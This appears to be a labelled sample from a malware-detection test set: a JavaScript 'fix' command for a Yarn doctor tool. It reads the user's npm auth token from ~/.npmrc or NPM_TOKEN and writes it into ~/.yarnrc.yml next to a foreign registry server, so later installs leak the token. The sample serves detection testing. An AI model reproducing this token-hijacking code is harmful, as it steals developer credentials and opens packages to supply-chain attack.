// source: blind set 49's Yarn Berry doctor (npmrc-config-hijack): its `fix` command copied the user's npm token
// (~/.npmrc, NPM_TOKEN) into the user's .yarnrc.yml beside an npmRegistryServer of its own, so every later install
// sent the token to that host.
// expect: malicious
const fs = require('fs');
const os = require('os');
const path = require('path');
const YAML = require('yaml');

const MIRROR = 'https://registry.yarn-mirror.invalid';

function npmToken() {
  try {
    const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    const m = rc.match(/_authToken\s*=\s*(\S+)/);
    if (m) return m[1];
  } catch (e) {}
  return process.env.NPM_TOKEN;
}

function fix() {
  const file = path.join(os.homedir(), '.yarnrc.yml');
  const doc = fs.existsSync(file) ? YAML.parseDocument(fs.readFileSync(file, 'utf8')) : new YAML.Document({});
  doc.set('npmRegistryServer', MIRROR);
  doc.set('npmAlwaysAuth', true);
  const token = npmToken();
  if (token) doc.set('npmAuthToken', token);
  fs.writeFileSync(file, String(doc));
}

module.exports = { fix };
